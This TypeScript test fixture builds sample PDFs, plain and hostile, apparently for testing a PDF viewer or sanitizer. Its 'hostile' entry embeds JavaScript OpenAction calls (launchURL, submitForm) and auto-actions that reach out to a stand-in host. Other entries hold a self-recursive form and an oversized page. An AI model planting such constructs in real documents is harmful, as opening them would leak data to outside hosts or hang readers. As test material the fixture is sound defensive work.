/** PDF files that are looked at: a plain one, and hostile ones that want more than that. */

import { revision, stream, type Stream } from "./pdf-file.ts";

const elsewhere = "https://192.0.2.1/";
const font = "/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>";
const line = (text: string): Stream => stream(`BT /F1 24 Tf 20 100 Td (${text}) Tj ET`);
const page = (content: number, more: string): string =>
  `<</Type/Page/Parent 2 0 R/Contents ${String(content)} 0 R/MediaBox[0 0 300 200]${more}>>`;

function documentOf(
  objects: readonly (readonly [number, string | Stream])[],
  kids: readonly number[],
  { catalog = "", trailer = "" } = {},
): Uint8Array {
  const tree = `<</Type/Pages/Count ${String(kids.length)}/Kids[${kids.map((one) => `${String(one)} 0 R`).join(" ")}]>>`;
  const all = new Map<number, string | Stream>([
    [1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`],
    [2, tree],
    ...objects,
  ]);
  const bytes = revision(
    Buffer.from("%PDF-1.6\n"),
    all,
    `/Size ${String(Math.max(...all.keys()) + 1)}/Root 1 0 R${trailer}`,
  );
  return new Uint8Array(bytes);
}

const single = (more: string, content: Stream, extra: readonly (readonly [number, string | Stream])[] = []) =>
  [[3, page(4, more)], [4, content], ...extra] as const;

const chinese =
  "/Resources<</Font<</F1<</Type/Font/Subtype/Type0/BaseFont/STSong/Encoding/UniGB-UCS2-H" +
  "/DescendantFonts[<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>>>]>>>>>>";

const scripts =
  `/OpenAction<</S/JavaScript/JS(app.launchURL('${elsewhere}');this.submitForm('${elsewhere}'))>>` +
  `/AA<</WC<</S/URI/URI(${elsewhere})>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert(1))>>]>>>>` +
  `/URI<</Base(${elsewhere})>>/AcroForm<</NeedAppearances true/Fields[6 0 R]/XFA(<x>${elsewhere}</x>)>>`;
const acts =
  `${font}/XObject<</X 5 0 R>>>>/AA<</O<</S/GoToR/F<</FS/URL/F(${elsewhere})>>/D[0/Fit]>>>>` +
  `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${elsewhere})>>>> 6 0 R]`;

const locked = `/Encrypt<</Filter/Standard/V 1/R 2/O<${"41".repeat(32)}>/U<${"42".repeat(32)}>/P -4>>/ID[<00><00>]`;

/** Each by its name. */
export const shownPdfs = {
  pages: documentOf(
    [3, 5, 7].flatMap((number, index) => [
      [number, page(number + 1, `${font}>>`)] as const,
      [number + 1, line(`Page ${"I".repeat(index + 1)}`)] as const,
    ]),
    [3, 5, 7],
  ),
  hostile: documentOf(
    single(acts, stream("BT /F1 24 Tf 20 100 Td (Hostile) Tj ET /X Do"), [
      [
        5,
        {
          entries: `/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}x.png)>>`,
          bytes: Buffer.from([0]),
        },
      ],
      [
        6,
        "<</Type/Annot/Subtype/Widget/FT/Btn/T(send)/Rect[10 10 90 40]/A<</S/SubmitForm/F<</FS/URL/F(https://192.0.2.1/)>>>>>>",
      ],
    ]),
    [3],
    { catalog: scripts },
  ),
  huge: documentOf(
    [
      [3, page(4, `${font}>>/UserUnit 75000`)],
      [4, line("Huge")],
    ],
    [3],
  ),
  /** A form that draws itself. */
  circle: documentOf(
    single("/Resources<</XObject<</X 5 0 R>>>>", stream("/X Do"), [
      [
        5,
        {
          entries: "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>",
          bytes: Buffer.from("0 0 9 9 re f /X Do"),
        },
      ],
    ]),
    [3],
  ),
  chinese: documentOf(single(chinese, stream("BT /F1 24 Tf 20 100 Td <4F60597D> Tj ET")), [3]),
  locked: documentOf(single(`${font}>>`, line("Locked")), [3], { trailer: locked }),
  broken: new TextEncoder().encode("%PDF-1.6\nnothing of the kind"),
} as const;
